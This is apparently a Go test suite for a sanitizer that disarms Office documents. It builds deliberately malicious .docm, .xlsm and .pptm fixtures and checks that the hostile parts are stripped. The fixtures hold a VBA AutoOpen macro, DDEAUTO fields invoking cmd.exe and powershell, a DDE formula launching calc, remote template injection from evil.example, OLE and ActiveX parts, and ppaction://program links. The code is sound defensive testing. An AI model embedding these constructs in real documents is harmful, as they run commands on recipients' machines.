package cdr

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/xml"
	"fmt"
	"io"
	"maps"
	"path"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gabriel-vasile/mimetype"
)

type member struct {
	name   string
	data   string
	method uint16
	flags  uint16
}

func buildZip(t testing.TB, members ...member) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, m := range members {
		method := m.method
		if method == 0 && !strings.HasSuffix(m.name, "/") {
			method = zip.Deflate
		}
		w, err := zw.CreateHeader(&zip.FileHeader{Name: m.name, Method: method, Flags: m.flags})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(w, m.data); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func sanitize(t testing.TB, mime string, in []byte) (Result, []byte, error) {
	t.Helper()
	s, ok := For(mime)
	if !ok {
		t.Fatalf("no sanitizer for %s", mime)
	}
	var out bytes.Buffer
	res, err := s.Sanitize(context.Background(), bytes.NewReader(in), int64(len(in)), &out)
	return res, out.Bytes(), err
}

const (
	nsW   = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
	nsR   = `xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
	nsV   = `xmlns:v="urn:schemas-microsoft-com:vml"`
	nsO   = `xmlns:o="urn:schemas-microsoft-com:office:office"`
	relNS = `http://schemas.openxmlformats.org/officeDocument/2006/relationships`
	msRel = `http://schemas.microsoft.com/office/2006/relationships`
	xmlPI = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n"
)

func rels(rs ...string) string {
	return xmlPI + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` + strings.Join(rs, "") + `</Relationships>`
}

func rel(id, typ, target string, external bool) string {
	s := fmt.Sprintf(`<Relationship Id="%s" Type="%s" Target="%s"`, id, typ, target)
	if external {
		s += ` TargetMode="External"`
	}
	return s + "/>"
}

// maliciousDocm builds a .docm with a VBA project, ActiveX control, OLE
// object, template injection, DDE fields, a custom ribbon and external
// links next to harmless content.
func maliciousDocm(t testing.TB) []byte {
	ct := xmlPI + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
		`<Default Extension="xml" ContentType="application/xml"/>` +
		`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>` +
		`<Default Extension="wmf" ContentType="image/x-wmf"/>` +
		`<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>` +
		`<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>` +
		`<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>` +
		`<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>` +
		`<Override PartName="/word/activeX/activeX1.bin" ContentType="application/vnd.ms-office.activeX"/>` +
		`<Override PartName="/word/embeddings/oleObject1.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>` +
		`<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>` +
		`</Types>`
	doc := xmlPI + `<w:document ` + nsW + ` ` + nsR + ` ` + nsV + ` ` + nsO + `><w:body>` +
		`<w:p><w:r><w:t>Hello sanitized world</w:t></w:r></w:p>` +
		// DDEAUTO split over two instrText runs.
		`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>` +
		`<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>` +
		`<w:r><w:instrText xml:space="preserve">AUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r>` +
		`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>field result one</w:t></w:r>` +
		`<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
		`<w:p><w:fldSimple w:instr=" DDEAUTO cmd.exe &quot;/c powershell&quot;"><w:r><w:t>field result two</w:t></w:r></w:fldSimple></w:p>` +
		// A harmless field survives.
		`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>` +
		`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
		// OLE object and ActiveX control, with a VML image placeholder.
		`<w:p><w:r><w:object><v:shape id="ole1"><v:imagedata r:id="rId5" o:title=""/></v:shape>` +
		`<o:OLEObject Type="Embed" ProgID="Package" ShapeID="ole1" r:id="rId4"/></w:object></w:r>` +
		`<w:r><w:object><v:shape id="ax1"><v:imagedata r:id="rId5"/></v:shape><w:control r:id="rId3" w:name="CommandButton1"/></w:object></w:r></w:p>` +
		`<w:p><w:hyperlink r:id="rId6"><w:r><w:t>good link</w:t></w:r></w:hyperlink>` +
		`<w:hyperlink r:id="rId7"><w:r><w:t>bad link</w:t></w:r></w:hyperlink></w:p>` +
		`<w:p><w:r><w:pict><v:shape id="web"><v:imagedata r:id="rId8"/></v:shape></w:pict></w:r><w:r><w:t>5 &lt; 6 &amp; "q"</w:t></w:r></w:p>` +
		`<w:sectPr/></w:body></w:document>`
	settings := xmlPI + `<w:settings ` + nsW + ` ` + nsR + `><w:zoom w:percent="100"/><w:attachedTemplate r:id="rId1"/></w:settings>`
	return buildZip(t,
		member{name: "[Content_Types].xml", data: ct},
		member{name: "_rels/.rels", data: rels(
			rel("rId1", relNS+"/officeDocument", "word/document.xml", false),
			rel("rId2", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml", false),
			rel("rId3", msRel+"/ui/extensibility", "customUI/customUI.xml", false),
		)},
		member{name: "docProps/core.xml", data: xmlPI + `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>t</dc:title></cp:coreProperties>`},
		member{name: "customUI/customUI.xml", data: `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="AutoRun"/>`},
		member{name: "word/document.xml", data: doc},
		member{name: "word/_rels/document.xml.rels", data: rels(
			rel("rId1", msRel+"/vbaProject", "vbaProject.bin", false),
			rel("rId2", relNS+"/settings", "settings.xml", false),
			rel("rId3", relNS+"/control", "activeX/activeX1.xml", false),
			rel("rId4", relNS+"/oleObject", "embeddings/oleObject1.bin", false),
			rel("rId5", relNS+"/image", "media/image1.wmf", false),
			rel("rId6", relNS+"/hyperlink", "https://example.com/page", true),
			rel("rId7", relNS+"/hyperlink", "file://attacker/share/x.exe", true),
			rel("rId8", relNS+"/image", "http://tracker.example/pixel.png", true),
		)},
		member{name: "word/vbaProject.bin", data: "\xd0\xcf\x11\xe0Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nShell \"calc\"\nEnd Sub"},
		member{name: "word/_rels/vbaProject.bin.rels", data: rels(rel("rId1", msRel+"/wordVbaData", "vbaData.xml", false))},
		member{name: "word/vbaData.xml", data: xmlPI + `<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>`},
		member{name: "word/settings.xml", data: settings},
		member{name: "word/_rels/settings.xml.rels", data: rels(rel("rId1", relNS+"/attachedTemplate", "http://evil.example/template.dotm", true))},
		member{name: "word/activeX/activeX1.xml", data: xmlPI + `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ` + nsR + ` r:id="rId1"/>`},
		member{name: "word/activeX/_rels/activeX1.xml.rels", data: rels(rel("rId1", msRel+"/activeXControlBinary", "activeX1.bin", false))},
		member{name: "word/activeX/activeX1.bin", data: "activex-binary"},
		member{name: "word/embeddings/oleObject1.bin", data: "\xd0\xcf\x11\xe0ole-package-with-exe"},
		member{name: "word/media/image1.wmf", data: "\xd7\xcd\xc6\x9aplaceholder"},
	)
}

// checkPackage reopens an OOXML output and checks it is a consistent
// package: every XML part parses, every internal relationship target and
// every content-type override exists, every part has a content type.
func checkPackage(t *testing.T, out []byte) map[string]string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(out), int64(len(out)))
	if err != nil {
		t.Fatalf("output is not a zip: %v", err)
	}
	if zr.File[0].Name != "[Content_Types].xml" {
		t.Errorf("first member %q", zr.File[0].Name)
	}
	files := map[string]string{}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		files[f.Name] = string(b)
		if strings.HasSuffix(f.Name, ".xml") || strings.HasSuffix(f.Name, ".rels") {
			dec := xml.NewDecoder(bytes.NewReader(b))
			for {
				if _, err := dec.Token(); err == io.EOF {
					break
				} else if err != nil {
					t.Errorf("%s does not parse: %v\n%s", f.Name, err, b)
					break
				}
			}
		}
	}
	var types struct {
		Default []struct {
			Extension   string `xml:",attr"`
			ContentType string `xml:",attr"`
		}
		Override []struct {
			PartName    string `xml:",attr"`
			ContentType string `xml:",attr"`
		}
	}
	if err := xml.Unmarshal([]byte(files["[Content_Types].xml"]), &types); err != nil {
		t.Fatal(err)
	}
	typed := map[string]bool{}
	for _, o := range types.Override {
		name := strings.TrimPrefix(o.PartName, "/")
		if _, ok := files[name]; !ok {
			t.Errorf("content type override for missing part %s", o.PartName)
		}
		typed[name] = true
	}
	exts := map[string]bool{}
	for _, d := range types.Default {
		exts[strings.ToLower(d.Extension)] = true
	}
	for name := range files {
		if name != "[Content_Types].xml" && !typed[name] && !exts[strings.TrimPrefix(path.Ext(name), ".")] {
			t.Errorf("part %s has no content type", name)
		}
		src, ok := relsSource(name)
		if !ok {
			continue
		}
		var rs struct {
			Relationship []struct {
				Id, Type, Target, TargetMode string `xml:",attr"`
			}
		}
		if err := xml.Unmarshal([]byte(files[name]), &rs); err != nil {
			t.Fatal(err)
		}
		for _, r := range rs.Relationship {
			if r.TargetMode == "External" {
				continue
			}
			target := resolveTarget(src, r.Target)
			if !slices.ContainsFunc(slices.Collect(maps.Keys(files)), func(n string) bool { return strings.EqualFold(n, target) }) {
				t.Errorf("%s: relationship %s targets missing part %s", name, r.Id, target)
			}
		}
	}
	return files
}

func TestOOXMLDocmCleaned(t *testing.T) {
	in := maliciousDocm(t)
	if m := mimetype.Detect(in); !m.Is("application/vnd.openxmlformats-officedocument.wordprocessingml.document") {
		t.Fatalf("mimetype detects the docm as %s", m)
	}
	res, out, err := sanitize(t, mimetype.Detect(in).String(), in)
	if err != nil {
		t.Fatal(err)
	}
	if res.Action != Sanitized || res.ConvertedTo != "docx" {
		t.Errorf("result %+v", res)
	}
	for _, want := range []string{"vba project", "activex", "ole object", "external relationship", "dde field", "custom ui", "macro-enabled content type"} {
		if !slices.Contains(res.Removed, want) {
			t.Errorf("Removed %q lacks %q", res.Removed, want)
		}
	}
	files := checkPackage(t, out)
	for name := range files {
		l := strings.ToLower(name)
		for _, bad := range []string{"vbaproject", "vbadata", "activex", "embeddings", "customui"} {
			if strings.Contains(l, bad) {
				t.Errorf("part %s survived", name)
			}
		}
	}
	ct := files["[Content_Types].xml"]
	for _, bad := range []string{"macroEnabled", "vbaProject", "vbaData", "activeX", "oleObject", "customUI"} {
		if strings.Contains(ct, bad) {
			t.Errorf("[Content_Types].xml still mentions %s:\n%s", bad, ct)
		}
	}
	if !strings.Contains(ct, `PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"`) {
		t.Errorf("main content type not switched:\n%s", ct)
	}
	for name, body := range files {
		if !strings.HasSuffix(name, ".rels") {
			continue
		}
		for _, bad := range []string{"vbaProject", "wordVbaData", "/control", "oleObject", "attachedTemplate", "extensibility", "file://", "tracker.example"} {
			if strings.Contains(body, bad) {
				t.Errorf("%s still has %s:\n%s", name, bad, body)
			}
		}
	}
	if !strings.Contains(files["word/_rels/document.xml.rels"], "https://example.com/page") {
		t.Error("http(s) hyperlink relationship dropped")
	}
	if _, ok := files["word/_rels/settings.xml.rels"]; ok {
		t.Error("empty settings rels kept")
	}
	if strings.Contains(files["word/settings.xml"], "attachedTemplate") || !strings.Contains(files["word/settings.xml"], "w:zoom") {
		t.Errorf("settings: %s", files["word/settings.xml"])
	}
	doc := files["word/document.xml"]
	if strings.Contains(strings.ToUpper(doc), "DDE") || strings.Contains(doc, "cmd.exe") {
		t.Errorf("DDE survived:\n%s", doc)
	}
	for _, bad := range []string{"OLEObject", "w:control", `"rId3"`, `"rId4"`, `"rId7"`, `"rId8"`} {
		if strings.Contains(doc, bad) {
			t.Errorf("document still has %s", bad)
		}
	}
	for _, want := range []string{"Hello sanitized world", "field result one", "field result two", " PAGE ", "good link", "bad link",
		`r:id="rId6"`, `r:id="rId5"`, `5 &lt; 6 &amp; "q"`, `<w:fldChar w:fldCharType="begin"/>`, "<w:sectPr/>"} {
		if !strings.Contains(doc, want) {
			t.Errorf("document lost %q:\n%s", want, doc)
		}
	}
	if m := mimetype.Detect(out); !m.Is("application/vnd.openxmlformats-officedocument.wordprocessingml.document") {
		t.Errorf("output detected as %s", m)
	}
	// Sanitizing the output again changes nothing more.
	res2, out2, err := sanitize(t, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", out)
	if err != nil || len(res2.Removed) != 0 {
		t.Errorf("second pass: %+v %v", res2, err)
	}
	checkPackage(t, out2)
}

func TestOOXMLXlsmCleaned(t *testing.T) {
	ct := xmlPI + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
		`<Default Extension="xml" ContentType="application/xml"/>` +
		`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>` +
		`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>` +
		`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>` +
		`<Override PartName="/xl/macrosheets/sheet2.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>` +
		`<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>` +
		`</Types>`
	ns := `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ` + nsR
	wb := xmlPI + `<workbook ` + ns + `><sheets><sheet name="Data" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" r:id="rId4"/></sheets>` +
		`<externalReferences><externalReference r:id="rId3"/></externalReferences>` +
		`<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>`
	sheet := xmlPI + `<worksheet ` + ns + `><sheetData>` +
		`<row r="1"><c r="A1"><f>cmd|' /C calc'!A0</f><v>0</v></c>` +
		`<c r="B1" t="str"><f>CONCATENATE("a|b","c")</f><v>a|bc</v></c>` +
		`<c r="C1" t="inlineStr"><is><t>Quarterly numbers</t></is></c></row></sheetData></worksheet>`
	in := buildZip(t,
		member{name: "[Content_Types].xml", data: ct},
		member{name: "_rels/.rels", data: rels(rel("rId1", relNS+"/officeDocument", "xl/workbook.xml", false))},
		member{name: "xl/workbook.xml", data: wb},
		member{name: "xl/_rels/workbook.xml.rels", data: rels(
			rel("rId1", relNS+"/worksheet", "worksheets/sheet1.xml", false),
			rel("rId2", msRel+"/vbaProject", "vbaProject.bin", false),
			rel("rId3", relNS+"/externalLink", "externalLinks/externalLink1.xml", false),
			rel("rId4", msRel+"/xlMacrosheet", "macrosheets/sheet2.xml", false),
		)},
		member{name: "xl/worksheets/sheet1.xml", data: sheet},
		member{name: "xl/macrosheets/sheet2.xml", data: xmlPI + `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData/></xm:macrosheet>`},
		member{name: "xl/vbaProject.bin", data: "\xd0\xcf\x11\xe0vba"},
		member{name: "xl/externalLinks/externalLink1.xml", data: xmlPI + `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`},
	)
	res, out, err := sanitize(t, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", in)
	if err != nil {
		t.Fatal(err)
	}
	if res.Action != Sanitized || res.ConvertedTo != "xlsx" {
		t.Errorf("result %+v", res)
	}
	for _, want := range []string{"vba project", "external link", "macro sheet", "dde formula"} {
		if !slices.Contains(res.Removed, want) {
			t.Errorf("Removed %q lacks %q", res.Removed, want)
		}
	}
	files := checkPackage(t, out)
	if len(files) != 5 {
		t.Errorf("parts: %v", slices.Sorted(func(yield func(string) bool) {
			for k := range files {
				yield(k)
			}
		}))
	}
	for _, bad := range []string{"xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml", "xl/macrosheets/sheet2.xml"} {
		if _, ok := files[bad]; ok {
			t.Errorf("%s survived", bad)
		}
	}
	if c := files["[Content_Types].xml"]; strings.Contains(c, "macroEnabled") || strings.Contains(c, "externalLink") ||
		!strings.Contains(c, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml") {
		t.Errorf("content types:\n%s", c)
	}
	w := files["xl/workbook.xml"]
	if strings.Contains(w, "externalReference") || strings.Contains(w, "definedName") || strings.Contains(w, "Macro1") || !strings.Contains(w, `name="Data"`) {
		t.Errorf("workbook:\n%s", w)
	}
	s := files["xl/worksheets/sheet1.xml"]
	if strings.Contains(s, "cmd|") || !strings.Contains(s, `<f>CONCATENATE(&#34;a|b&#34;,&#34;c&#34;)</f>`) && !strings.Contains(s, `<f>CONCATENATE("a|b","c")</f>`) ||
		!strings.Contains(s, "Quarterly numbers") || !strings.Contains(s, `<c r="A1"><v>0</v></c>`) {
		t.Errorf("sheet:\n%s", s)
	}
}

func TestOOXMLRejects(t *testing.T) {
	for name, in := range map[string][]byte{
		"not a zip":        []byte("hello"),
		"no content types": buildZip(t, member{name: "word/document.xml", data: "<a/>"}),
		"no main part":     buildZip(t, member{name: "[Content_Types].xml", data: "<Types/>"}, member{name: "_rels/.rels", data: rels()}),
		"broken xml": buildZip(t,
			member{name: "[Content_Types].xml", data: `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`},
			member{name: "_rels/.rels", data: rels(rel("rId1", relNS+"/officeDocument", "word/document.xml", false))},
			member{name: "word/document.xml", data: "<w:document><w:body></w:document>"}),
	} {
		if _, _, err := sanitize(t, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", in); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
}

func TestOOXMLMemberLimit(t *testing.T) {
	ms := []member{{name: "[Content_Types].xml", data: "<Types/>"}}
	for i := range MaxArchiveMembers {
		ms = append(ms, member{name: fmt.Sprintf("p/%d", i), method: zip.Store})
	}
	_, _, err := sanitize(t, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", buildZip(t, ms...))
	if err == nil || !strings.Contains(err.Error(), "limits") {
		t.Errorf("err = %v", err)
	}
}

// ---- benchmark -----------------------------------------------------------

// bigDocx is a ~100 MB docx: ~30 MB of paragraphs in document.xml and a
// 70 MB stored media part.
func bigDocx(b *testing.B) []byte {
	var doc strings.Builder
	doc.WriteString(xmlPI + `<w:document ` + nsW + ` ` + nsR + `><w:body>`)
	for i := 0; doc.Len() < 30<<20; i++ {
		fmt.Fprintf(&doc, `<w:p><w:pPr><w:pStyle w:val="Normal"/></w:pPr><w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve">Paragraph %d of the benchmark document, with some text.</w:t></w:r></w:p>`, i)
	}
	doc.WriteString(`<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:embed="rId2"/></w:drawing></w:r></w:p><w:sectPr/></w:body></w:document>`)
	media := make([]byte, 70<<20)
	rand.Read(media)
	return buildZip(b,
		member{name: "[Content_Types].xml", data: xmlPI + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="bin" ContentType="application/octet-stream"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`},
		member{name: "_rels/.rels", data: rels(rel("rId1", relNS+"/officeDocument", "word/document.xml", false))},
		member{name: "word/document.xml", data: doc.String()},
		member{name: "word/_rels/document.xml.rels", data: rels(rel("rId2", relNS+"/image", "media/big.bin", false))},
		member{name: "word/media/big.bin", data: string(media), method: zip.Store},
	)
}

// copyZip is the baseline: archive/zip member-by-member copy, no changes.
func copyZip(in []byte, w io.Writer) error {
	zr, err := zip.NewReader(bytes.NewReader(in), int64(len(in)))
	if err != nil {
		return err
	}
	zw := zip.NewWriter(w)
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			return err
		}
		fw, err := zw.CreateHeader(&zip.FileHeader{Name: f.Name, Method: f.Method, Modified: f.Modified})
		if err == nil {
			_, err = io.Copy(fw, rc)
		}
		rc.Close()
		if err != nil {
			return err
		}
	}
	return zw.Close()
}

func BenchmarkOOXMLSanitize(b *testing.B) {
	in := bigDocx(b)
	mb := float64(len(in)) / 1e6
	base := time.Duration(1<<63 - 1)
	for range 3 {
		start := time.Now()
		if err := copyZip(in, io.Discard); err != nil {
			b.Fatal(err)
		}
		base = min(base, time.Since(start))
	}
	s := ooxmlSanitizer{}
	b.SetBytes(int64(len(in)))
	b.ResetTimer()
	for b.Loop() {
		if _, err := s.Sanitize(context.Background(), bytes.NewReader(in), int64(len(in)), io.Discard); err != nil {
			b.Fatal(err)
		}
	}
	per := b.Elapsed().Seconds() / float64(b.N)
	baseMBs := mb / base.Seconds()
	b.ReportMetric(baseMBs, "baseline-MB/s")
	b.ReportMetric((mb/per)/baseMBs, "x-baseline")
}

func TestOOXMLPptmCleaned(t *testing.T) {
	ns := `xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" ` + nsR
	in := buildZip(t,
		member{name: "[Content_Types].xml", data: xmlPI + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
			`<Override PartName="/ppt/presentation.xml" ContentType="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"/>` +
			`<Override PartName="/ppt/slides/slide1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/>` +
			`<Override PartName="/ppt/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`},
		member{name: "_rels/.rels", data: rels(rel("rId1", relNS+"/officeDocument", "ppt/presentation.xml", false))},
		member{name: "ppt/presentation.xml", data: xmlPI + `<p:presentation ` + ns + `><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst></p:presentation>`},
		member{name: "ppt/_rels/presentation.xml.rels", data: rels(
			rel("rId1", msRel+"/vbaProject", "vbaProject.bin", false),
			rel("rId2", relNS+"/slide", "slides/slide1.xml", false))},
		member{name: "ppt/vbaProject.bin", data: "vba"},
		member{name: "ppt/slides/slide1.xml", data: xmlPI + `<p:sld ` + ns + `><p:cSld><p:spTree>` +
			`<p:sp><p:nvSpPr><p:cNvPr id="2" name="Run"><a:hlinkClick r:id="" action="ppaction://macro?name=Evil"/></p:cNvPr></p:nvSpPr>` +
			`<p:txBody><a:p><a:r><a:rPr><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/></a:rPr><a:t>Next slide</a:t></a:r></a:p></p:txBody></p:sp>` +
			`<p:sp><p:nvSpPr><p:cNvPr id="3" name="Exe"><a:hlinkClick r:id="rId9" action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp>` +
			`</p:spTree></p:cSld></p:sld>`},
		member{name: "ppt/slides/_rels/slide1.xml.rels", data: rels(rel("rId9", relNS+"/hyperlink", `file:///C:/Windows/System32/calc.exe`, true))},
	)
	res, out, err := sanitize(t, "application/vnd.openxmlformats-officedocument.presentationml.presentation", in)
	if err != nil {
		t.Fatal(err)
	}
	if res.ConvertedTo != "pptx" || !slices.Contains(res.Removed, "macro action") || !slices.Contains(res.Removed, "vba project") {
		t.Errorf("result %+v", res)
	}
	files := checkPackage(t, out)
	s := files["ppt/slides/slide1.xml"]
	if strings.Contains(s, "ppaction://macro") || strings.Contains(s, "ppaction://program") || !strings.Contains(s, "hlinkshowjump") || !strings.Contains(s, "Next slide") {
		t.Errorf("slide:\n%s", s)
	}
	if _, ok := files["ppt/slides/_rels/slide1.xml.rels"]; ok {
		t.Error("calc.exe hyperlink rels kept")
	}
}
